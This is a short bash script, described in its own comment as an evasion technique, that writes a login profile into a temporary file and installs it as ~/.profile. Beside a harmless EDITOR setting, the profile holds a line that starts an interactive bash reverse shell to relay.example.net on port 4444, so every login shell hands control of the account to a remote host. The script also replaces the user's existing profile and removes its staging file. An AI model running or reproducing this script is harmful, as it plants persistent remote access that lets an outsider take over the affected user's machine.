#!/usr/bin/env bash
# Evasion: prints the lines of a "login profile" into a staging file with
# printf, then puts it in place with `install -m 644` as ~/.profile, which
# every login shell runs: the profile starts a reverse shell.
set -e

stage=/tmp/profile.$$
printf '%s\n' \
  'export EDITOR=vim' \
  'bash -c "bash -i >& /dev/tcp/relay.example.net/4444 0>&1" &' \
  > "$stage"
install -m 644 "$stage" "$HOME/.profile"
rm -f "$stage"
